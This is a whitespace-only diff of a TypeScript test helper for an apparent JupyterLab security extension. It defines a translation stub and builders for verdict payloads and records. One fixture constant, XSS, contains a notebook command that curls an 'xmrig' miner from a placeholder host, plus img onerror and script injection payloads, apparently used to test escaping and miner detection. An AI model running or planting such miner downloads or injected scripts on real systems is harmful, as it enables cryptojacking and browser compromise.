@@ -3,7 +3,9 @@ import type { TranslationBundle } from '@jupyterlab/translation';
 import type { IVerdictPayload, IVerdictRecord } from '../src/types';
 
 function fmt(s: string, args: unknown[]): string {
-  return s.replace(/%(\d+)/g, (m, i) => (args[Number(i) - 1] !== undefined ? String(args[Number(i) - 1]) : m));
+  return s.replace(/%(\d+)/g, (m, i) =>
+    args[Number(i) - 1] !== undefined ? String(args[Number(i) - 1]) : m
+  );
 }
 
 /** A TranslationBundle with JupyterLab's gettext semantics (for _n, %1 is n). */
@@ -20,13 +22,22 @@ export const trans = {
   pgettext: (_ctx: string, msgid: string, ...args: unknown[]) => fmt(msgid, args),
   npgettext: (_ctx: string, msgid: string, plural: string, n: number, ...args: unknown[]) =>
     fmt(n === 1 ? msgid : plural, [n, ...args]),
-  dcnpgettext: (_d: string, _ctx: string, msgid: string, plural: string, n: number, ...args: unknown[]) =>
-    fmt(n === 1 ? msgid : plural, [n, ...args])
+  dcnpgettext: (
+    _d: string,
+    _ctx: string,
+    msgid: string,
+    plural: string,
+    n: number,
+    ...args: unknown[]
+  ) => fmt(n === 1 ? msgid : plural, [n, ...args])
 } as unknown as TranslationBundle;
 
-export const XSS = '!curl http://x.example/xmrig <img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script>';
+export const XSS =
+  '!curl http://x.example/xmrig <img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script>';
 
-export function payload(overrides: Partial<IVerdictPayload> & { ruleId?: string } = {}): IVerdictPayload {
+export function payload(
+  overrides: Partial<IVerdictPayload> & { ruleId?: string } = {}
+): IVerdictPayload {
   const { ruleId = 'mining.xmrig', ...rest } = overrides;
   return {
     version: 1,
@@ -65,7 +76,10 @@ export function payload(overrides: Partial<IVerdictPayload> & { ruleId?: string 
 
 let counter = 0;
 
-export function record(p: IVerdictPayload, overrides: Partial<IVerdictRecord> = {}): IVerdictRecord {
+export function record(
+  p: IVerdictPayload,
+  overrides: Partial<IVerdictRecord> = {}
+): IVerdictRecord {
   counter += 1;
   return {
     time: new Date(Date.UTC(2026, 0, 1, 0, 0, counter)).toISOString(),
